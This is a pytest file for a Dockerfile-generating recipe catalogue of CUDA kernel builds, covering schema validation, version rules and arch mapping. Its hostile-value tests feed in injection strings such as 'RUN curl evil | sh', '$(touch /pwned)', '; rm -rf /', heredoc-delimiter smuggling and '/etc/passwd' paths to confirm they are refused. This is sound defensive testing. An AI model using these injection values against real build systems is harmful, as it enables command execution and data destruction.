"""The recipe catalogue: built-ins load, broken files fail with file/key/problem, hostile values never
reach the Dockerfile as instructions."""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path

import dockerfile
import pytest
from packaging.version import Version

from imagegen.errors import RecipeError, UnsafeValueError
from imagegen.model.arch_parse import parse_arch_list
from imagegen.model.catalogue import load_catalogue
from imagegen.model.recipe_file import load_recipe_file
from imagegen.model.recipes import Recipe
from imagegen.model.source_tree import recipe_from_source_tree
from imagegen.plan import make_cell
from imagegen.render.dockerfile import render_dockerfile

BUILTINS = {"sageattention", "flash-attn", "flash-attn-3", "block-sparse-attn", "causal-conv1d", "mamba-ssm",
            "xformers", "natten"}

GOOD = textwrap.dedent("""\
    schema: 1
    name: demo
    aliases: [dm]
    description: "a demo"
    source:
      git: https://github.com/example/demo.git
    versions:
      "1.0":
        ref: v1.0
        commit: 0123456789abcdef0123456789abcdef01234567
        archs: ["8.0", "9.0"]
    arch:
      env: DEMO_ARCHS
      style: numeric
      ptx: none
    build:
      force_env: {DEMO_FORCE_BUILD: "TRUE"}
      env: {DEMO_FLAG: "1"}
    smoke:
      imports: [demo]
    obsolete_patches:
      - name: "old patch"
        reason: "fixed upstream"
    """)


def write(tmp_path: Path, text: str, name: str = "demo.yaml") -> Path:
    p = tmp_path / name
    p.write_text(text)
    return p


def test_builtin_catalogue_has_every_recipe_the_issue_names():
    cat = load_catalogue()
    assert BUILTINS <= set(cat.recipes)
    assert cat.get("sage").name == "sageattention"
    for r in cat.recipes.values():
        assert r.smoke.imports and r.versions
        for v in r.versions.values():
            assert v.commit and len(v.commit) == 40, f"{r.name} {v.version} must be pinned by full commit"


def test_sage_recipe_facts():
    sage = load_catalogue().get("sage")
    v = sage.version(None)
    assert v.ref == "v2.2.0" and v.arch.env == "TORCH_CUDA_ARCH_LIST" and v.arch.parser == "package"
    main = sage.version("main")
    assert "12.1" in [a.cc for a in main.archs] and "10.0" in [a.cc for a in main.archs]
    # The seed's sm_120 patch is obsolete for >= v2.2.0 and the recipe says so.
    assert any("obsolete for >= v2.2.0" in o["reason"] for o in sage.obsolete_patches)
    # EXT_PARALLEL is sized from the job budget (not pinned), and v2.2.0 carries upstream's sm90 fix.
    assert (sage.ext_parallel_env, sage.ext_parallel_max) == ("EXT_PARALLEL", 4) and "EXT_PARALLEL" not in sage.env
    assert "sageattention-2.2.0-sm90-fake-name.patch" in [p.name for p in sage.version("2.2.0").patches]
    assert "sageattention-2.2.0-sm90-fake-name.patch" not in [p.name for p in sage.version("main").patches]  # main has d970424


def test_user_recipe_dir_adds_and_overrides(tmp_path):
    write(tmp_path, GOOD)
    cat = load_catalogue((tmp_path,))
    assert cat.get("dm").name == "demo" and "sageattention" in cat.recipes


def test_unknown_recipe_is_one_line_with_the_known_names():
    with pytest.raises(RecipeError) as err:
        load_catalogue().get("sagee")
    assert "unknown recipe 'sagee'" in str(err.value) and "sageattention" in str(err.value)


@pytest.mark.parametrize("mutation, where", [
    (lambda t: t.replace("style: numeric", "style: weird"), "arch.style"),
    (lambda t: t.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "4.2"]'), "versions.1.0.archs"),
    (lambda t: t.replace("name: demo", "name: Demo Bad"), "name"),
    (lambda t: t.replace("  imports: [demo]", "  imports: []"), "smoke.imports"),
    (lambda t: t.replace("schema: 1", "schema: 9"), "schema"),
    (lambda t: t + "bogus: 1\n", "bogus"),
    (lambda t: t.replace("  git: https://github.com/example/demo.git", "  path: ."
                         "\n  git: https://github.com/example/demo.git"), "source"),
    (lambda t: t.replace("ref: v1.0", "ref: [1, 2]"), "versions.1.0.ref"),
])
def test_broken_recipe_names_file_and_key(tmp_path, mutation, where):
    p = write(tmp_path, mutation(GOOD))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    msg = str(err.value)
    assert msg.startswith(str(p) + ": ") and f": {where}" in msg and "\n" not in msg


def test_invalid_yaml_names_the_line(tmp_path):
    p = write(tmp_path, "name: [unclosed\n")
    with pytest.raises(RecipeError, match=r"demo.yaml: line \d+: not valid YAML"):
        load_recipe_file(p)


HOSTILE_FIELDS = [
    # (what, replacement)
    ("env value with newline", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "1\\nRUN curl evil | sh"')),
    ("env value with command substitution", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "$(touch /pwned)"')),
    ("env value with backtick", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "`id`"')),
    ("env name with space", lambda t: t.replace("DEMO_FLAG:", '"DEMO FLAG; rm -rf /":')),
    ("ref with shell", lambda t: t.replace("ref: v1.0", 'ref: "v1.0; rm -rf /"')),
    ("git url with quote", lambda t: t.replace("https://github.com/example/demo.git", "'https://x/\"; id; \"'")),
    ("commit with newline", lambda t: t.replace("0123456789abcdef0123456789abcdef01234567", '"0123456\\nRUN id"')),
    ("module with code", lambda t: t.replace("imports: [demo]", 'imports: ["os; import os; os.system(1)"]')),
    ("system package with option", lambda t: t.replace("build:\n", "build:\n  system_requires: ['--allow-unauthenticated evil']\n")),
    ("requirement with url", lambda t: t.replace("build:\n", "build:\n  requires: ['evil @ https://x/$(id).whl']\n")),
]


@pytest.mark.parametrize("what, mutate", HOSTILE_FIELDS, ids=[h[0] for h in HOSTILE_FIELDS])
def test_hostile_values_are_refused_at_load(tmp_path, what, mutate):
    p = write(tmp_path, mutate(GOOD))
    with pytest.raises(RecipeError):
        load_recipe_file(p)


def _render(recipe) -> str:
    cell = make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
    assert cell.buildable, cell.problems
    return render_dockerfile(cell).dockerfile


def _heredoc_json(cmds, dest: str) -> dict:
    """The JSON document the Dockerfile's COPY heredoc writes to ``dest``."""
    (doc,) = [h.content for c in cmds for h in c.heredocs if c.cmd.upper() == "COPY" and c.value[-1] == dest]
    return json.loads(doc)


def _cell_doc(cmds) -> dict:
    """The cell document the Dockerfile hands the build script (the IMAGEGEN_CELL_JSON heredoc)."""
    return _heredoc_json(cmds, "/cell.json")


def _up_to_toolchain(text: str) -> str:
    """The Dockerfile up to and including the RUN that installs the toolchain (torch, CUDA)."""
    run = "/imagegen/imagegen_toolchain.py --cell /imagegen/toolchain.json\n"
    os_stage = text[text.index("FROM ${BASE_IMAGE} AS os"):text.index("# --- fetch")]
    return os_stage + text[text.index("FROM os AS base"):text.index(run) + len(run)]


def test_every_recipe_shares_the_toolchain_layer_of_its_torch_cuda_and_python():
    """The heavy layer (torch and CUDA, several GB) is built from instructions with no recipe in
    them, so BuildKit builds it once for every recipe's builder of one torch x CUDA x Python x base
    (it was once after the cell document: one copy per recipe, and CI ran out of disk)."""
    catalogue = load_catalogue()
    prefixes = {}
    for name in ("sage", "fa2", "natten", "causal-conv1d"):
        recipe = catalogue.get(name)
        cell = make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
        assert cell.buildable, cell.problems
        text = render_dockerfile(cell).dockerfile
        prefix = _up_to_toolchain(text)
        # Labels are image metadata: BuildKit leaves them out of a RUN's cache key.
        prefixes[name] = "\n".join(ln for ln in prefix.splitlines() if not ln.lstrip().startswith(("LABEL", "org.", "io.")))
        toolchain = _heredoc_json(dockerfile.parse_string(text), "/imagegen/toolchain.json")
        assert toolchain["torch"]["version"].startswith("2.8") and toolchain["torch"]["cuda"] == "cu128"
        assert not {"recipe", "build_requires", "source", "patches", "env"} & set(toolchain)
        assert recipe.distribution not in prefix.split("LABEL")[0] + prefix.split("io.imagegen.flavor")[-1]
    assert len(set(prefixes.values())) == 1, prefixes.keys()
    other = catalogue.get("sage")
    cell = make_cell(other, other.version(None), "2.9", "12.8", "3.12", parse_arch_list("9.0"), "cuda")
    assert _up_to_toolchain(render_dockerfile(cell).dockerfile) != _up_to_toolchain(_render(other))


def test_hostile_free_text_stays_inside_comments(tmp_path):
    evil = GOOD.replace('reason: "fixed upstream"', 'reason: "fine\\nRUN curl evil | sh\\r\\nUSER root\\u2028ENV X=1"')
    evil = evil.replace('description: "a demo"', 'description: "x\\nRUN id"')
    text = _render(load_recipe_file(write(tmp_path, evil)))
    cmds = dockerfile.parse_string(text)
    assert all(c.cmd.upper() != "USER" for c in cmds)
    assert not any(c.cmd.upper() == "RUN" and "evil" in " ".join(c.value) for c in cmds)
    clean = dockerfile.parse_string(_render(load_recipe_file(write(tmp_path, GOOD))))
    count_env = lambda cs: sum(1 for c in cs if c.cmd.upper() == "ENV")  # noqa: E731
    assert count_env(cmds) == count_env(clean)  # the template's own ENV instructions only


def test_values_reach_the_build_only_as_json(tmp_path):
    text = _render(load_recipe_file(write(tmp_path, GOOD)))
    cmds = dockerfile.parse_string(text)
    doc = _cell_doc(cmds)
    assert doc["env"] == {"DEMO_FLAG": "1"} and doc["force_env"] == {"DEMO_FORCE_BUILD": "TRUE"}
    # No recipe value appears in a RUN instruction.
    for c in cmds:
        if c.cmd.upper() == "RUN":
            assert "DEMO" not in " ".join(c.value)


def test_patch_text_with_a_delimiter_line_cannot_end_the_heredoc(tmp_path):
    (tmp_path / "patches").mkdir()
    (tmp_path / "patches" / "x.patch").write_text("IMAGEGEN_CELL_JSON\nRUN id\nIMAGEGEN_BUILD_PY\n")
    text = GOOD.replace('    archs: ["8.0", "9.0"]', '    archs: ["8.0", "9.0"]\n    patches: [{file: x.patch, reason: test}]')
    assert text != GOOD
    out = _render(load_recipe_file(write(tmp_path, text)))
    cmds = dockerfile.parse_string(out)
    assert not any(c.cmd.upper() == "RUN" and c.value == ("id",) for c in cmds)
    doc = _cell_doc(cmds)
    assert doc["patches"][0]["text"].startswith("IMAGEGEN_CELL_JSON\n")


def test_hostile_base_image_is_refused():
    recipe = load_catalogue().get("sage")
    with pytest.raises(UnsafeValueError) as err:
        make_cell(recipe, recipe.version(None), "2.8", "12.8", "3.12", parse_arch_list("9.0"), "cuda",
                  base_image="ubuntu:22.04\nRUN id")
    assert "\n" not in str(err.value) and "--base-image" in str(err.value)


def test_local_source_tree_becomes_a_recipe():
    fixture = Path(__file__).parent.parent / "fixtures" / "tiny_kernel"
    r = recipe_from_source_tree(fixture)
    assert r.name == "tiny-kernel" and r.default_version == "0.1.0" and r.source_kind == "local"
    assert r.smoke.imports == ("tiny_kernel",)
    assert r.version(None).arch.env == "TORCH_CUDA_ARCH_LIST"


def test_local_source_tree_errors(tmp_path):
    with pytest.raises(RecipeError, match="not a directory"):
        recipe_from_source_tree(tmp_path / "nope")
    with pytest.raises(RecipeError, match="no setup.py or pyproject.toml"):
        recipe_from_source_tree(tmp_path)


def test_unsafe_value_error_is_typed():
    from imagegen import safety
    with pytest.raises(UnsafeValueError):
        safety.check("a\nb", safety.IMAGE_REF, "image")


# --------------------------------------------------------------------------------------------
# Per-version torch / CUDA / Python ranges (`requires`) and arch mapping (`arch.runs_on`)


def test_xformers_versions_carry_their_torch_floor_as_rules():
    xf = load_catalogue().get("xformers")
    floors = {v: [r.text for r in xf.version(v).requires if r.subject == "torch"] for v in xf.versions}
    assert floors == {"0.0.35": [">= 2.10"], "0.0.33.post2": [">= 2.9"], "0.0.32": [">= 2.8"]}
    assert [r.text for r in xf.version("0.0.35").requires if r.subject == "cuda"] == [">= 12.5"]


def test_rule_compares_two_part_clauses_by_series_and_longer_ones_by_release():
    v = load_recipe_file(Path("x.yaml"), text=GOOD.replace(
        "    archs: [\"8.0\", \"9.0\"]\n",
        "    archs: [\"8.0\", \"9.0\"]\n    requires: {torch: \">2.9\", python: \">=3.9.1\"}\n"))
    torch_rule, py_rule = v.version(None).requires
    assert torch_rule.allows(Version("2.10"), Version("2.10.0"))
    assert not torch_rule.allows(Version("2.9"), Version("2.9.1"))  # the 2.9 series is not "> 2.9"
    assert not py_rule.allows(Version("3.9"), Version("3.9"))


REQUIRES_PROBLEMS = [
    ('requires: [">=2.8"]', "versions.1.0.requires: expected a mapping"),
    ('requires: {gcc: ">=11"}', "versions.1.0.requires: unknown subject 'gcc'"),
    ('requires: {torch: "2.10+"}', "versions.1.0.requires.torch: '2.10+' is not a version range"),
    ('requires: {torch: 5}', "versions.1.0.requires.torch: expected a version range"),
    ('requires: {torch: {spec: ">=2.8", because: x}}', "versions.1.0.requires.torch.because: unknown key"),
    ('requires: {cuda: {why: "no spec"}}', "versions.1.0.requires.cuda.spec: expected a version range"),
    ('requires: {python: "===banana"}', "versions.1.0.requires.python: '===banana' is not a version range"),
    ('requires: {torch: "' + ">=2." * 200 + '"}', "versions.1.0.requires.torch: '>=2.>=2."),
]


@pytest.mark.parametrize("line, expected", REQUIRES_PROBLEMS, ids=[p[1].split(": ", 1)[-1][:30] for p in REQUIRES_PROBLEMS])
def test_bad_requires_is_one_line_naming_file_and_key(tmp_path, line, expected):
    p = write(tmp_path, GOOD.replace('    archs: ["8.0", "9.0"]\n', f'    archs: ["8.0", "9.0"]\n    {line}\n'))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    msg = str(err.value)
    assert msg.startswith(f"{p}: {expected}"), msg
    assert "\n" not in msg and len(msg) < len(str(p)) + 250  # a hostile value is quoted, bounded


RUNS_ON_PROBLEMS = [
    ('runs_on: {"8.6": "9.0"}', "arch.runs_on.8.6: an sm_90 cubin does not serve a 8.6 GPU"),
    ('runs_on: {"8.0": "8.6"}', "arch.runs_on.8.0: an sm_86 cubin does not serve a 8.0 GPU"),
    ('runs_on: {"8.6": "8.0+PTX"}', "arch.runs_on.8.6: '8.0+PTX': give one plain compute capability"),
    ('runs_on: {"8.x": "8.0"}', "arch.runs_on.8.x: unknown GPU architecture"),
    ('runs_on: ["8.6"]', "arch.runs_on: expected a mapping"),
    ('runs_on: {"12.1": "12.0"}', "versions.1.0.arch.runs_on.12.1: 12.1 runs on 12.0, which is not in this version's archs"),
    ('runs_on: {"9.0": "9.0"}', "arch.runs_on.9.0: an sm_90 cubin does not serve a 9.0 GPU"),
]


@pytest.mark.parametrize("line, expected", RUNS_ON_PROBLEMS, ids=[p[0] for p in RUNS_ON_PROBLEMS])
def test_bad_runs_on_is_one_line_naming_file_and_key(tmp_path, line, expected):
    p = write(tmp_path, GOOD.replace("  ptx: none\n", f"  ptx: none\n  {line}\n"))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)
    assert "\n" not in str(err.value)


def test_runs_on_target_already_requested_is_refused(tmp_path):
    text = GOOD.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "8.6", "9.0"]').replace(
        "  ptx: none\n", '  ptx: none\n  runs_on: {"8.6": "8.0"}\n')
    with pytest.raises(RecipeError, match=r"versions\.1\.0\.arch\.runs_on\.8\.6: 8\.6 is in this version's archs"):
        load_recipe_file(write(tmp_path, text))


def test_flash_attn_and_bsa_map_8x_to_the_sm80_cubin_in_every_numeric_version():
    cat = load_catalogue()
    for name in ("flash-attn", "block-sparse-attn"):
        for v in cat.get(name).versions.values():
            if v.arch.style == "fixed":
                continue  # BSA 0.0.1: its fixed sm_80 covers 8.6/8.9 by itself
            assert {cc: v.arch.compiles_for(cc) for cc in ("8.6", "8.7", "8.9", "9.0")} == \
                {"8.6": "8.0", "8.7": "8.0", "8.9": "8.0", "9.0": "9.0"}, (name, v.version)


# A statement about a torch / CUDA / Python range in a version's notes. Each must be backed by a rule
# (`requires` or the recipe-wide build floors) that the plan enforces: notes are for people, rules for
# the plan, and a "needs torch >= 2.10" that lives only in prose gets planned as buildable anyway.
_STATEMENTS = [
    (re.compile(r"\b(torch|cuda|python)\s*(>=|≥|<=|≤|>|<)\s*v?(\d+(?:\.\d+)+)", re.I), None),
    (re.compile(r"\b(?:requires|needs|only with)\s+(torch|cuda|python)\s+v?(\d+(?:\.\d+)+)", re.I), ">="),
]


def _excluded_by(op: str, bound: Version) -> Version:
    """A value the statement ``<subject> <op> <bound>`` rules out, next to the bound."""
    rel = list(bound.release)
    if op in (">", "<"):
        return bound
    if op in ("<=", "≤"):
        rel[-1] += 1
    elif rel[-1] > 0:
        rel[-1] -= 1
    else:  # ">= 13.0": 12.9
        rel[-2:] = [rel[-2] - 1, 9]
    return Version(".".join(map(str, rel)))


def unbacked_statements(recipe: Recipe) -> list[str]:
    out = []
    for v in recipe.versions.values():
        rules = recipe.rules(v)
        for pattern, fixed_op in _STATEMENTS:
            for m in pattern.finditer(" ".join(v.notes.split())):
                subject = m.group(1).lower()
                op, bound = (fixed_op, m.group(2)) if fixed_op else (m.group(2), m.group(3))
                probe = _excluded_by(op, Version(bound))
                if all(r.allows(probe, probe) for r in rules if r.subject == subject):
                    out.append(f"{recipe.name} {v.version}: notes say {m.group(0)!r}, but no rule rejects {subject} {probe}")
    return out


def test_every_range_stated_in_notes_is_an_enforced_rule():
    cat = load_catalogue()
    found = [s for r in cat.recipes.values() for s in unbacked_statements(r)]
    assert found == []
    # The scan sees the catalogue's statements at all (else it would pass vacuously).
    assert any(_STATEMENTS[0][0].search(v.notes) for r in cat.recipes.values() for v in r.versions.values())


def test_a_note_stating_a_range_without_a_rule_is_caught(tmp_path):
    note = '    notes: "requires torch >= 2.10 (requirements.txt); needs CUDA >= 12.5; Python >= 3.10 only"\n'
    base = GOOD.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n' + note)
    bare = load_recipe_file(write(tmp_path, base))
    assert len(unbacked_statements(bare)) == 3
    # A rule weaker than the note does not back it: torch >= 2.8 still lets torch 2.9 through.
    weak = load_recipe_file(write(tmp_path, base.replace(note, note + '    requires: {torch: ">=2.8"}\n')))
    assert [s.rsplit("no rule rejects ", 1)[1] for s in unbacked_statements(weak)] == ["torch 2.9", "cuda 12.4", "python 3.9"]
    backed = load_recipe_file(write(tmp_path, base.replace(note, note + (
        '    requires: {torch: {spec: ">=2.10", why: requirements.txt}, cuda: ">=12.5", python: ">=3.10"}\n'))))
    assert unbacked_statements(backed) == []


@pytest.mark.parametrize("figures, words", [
    ("{csrc/k_bwd.cu: 2.0}", None),
    ("{/etc/passwd: 2.0}", "build.source_memory_gb./etc/passwd"),
    ("{../k.cu: 2.0}", "build.source_memory_gb"),
    ("{csrc/k.cu: .inf}", "build.source_memory_gb.csrc/k.cu"),
    ("{csrc/k.cu: 0}", "build.source_memory_gb.csrc/k.cu"),
    ("{csrc/k.cu: x}", "build.source_memory_gb.csrc/k.cu"),
    ("[csrc/k.cu]", "build.source_memory_gb"),
])
def test_per_source_memory_figures_are_validated(tmp_path, figures, words):
    from imagegen.errors import RecipeError
    from imagegen.model.recipe_file import load_recipe_file
    path = tmp_path / "demo.yaml"
    path.write_text("schema: 1\nname: demo\nsource: {git: https://example.com/demo.git}\n"
                    "versions:\n  '1.0': {ref: v1.0, archs: ['9.0']}\n"
                    "arch: {env: TORCH_CUDA_ARCH_LIST, style: torch, ptx: honoured}\nsmoke: {imports: [demo]}\n"
                    f"build:\n  memory_per_thread_gb: 0.5\n  source_memory_gb: {figures}\n")
    if words is None:
        recipe = load_recipe_file(path)
        assert recipe.source_memory_gb == {"csrc/k_bwd.cu": 2.0} and recipe.heaviest_gb_per_thread == 2.0
        return
    with pytest.raises(RecipeError) as info:
        load_recipe_file(path)
    assert words in str(info.value) and "\n" not in str(info.value)
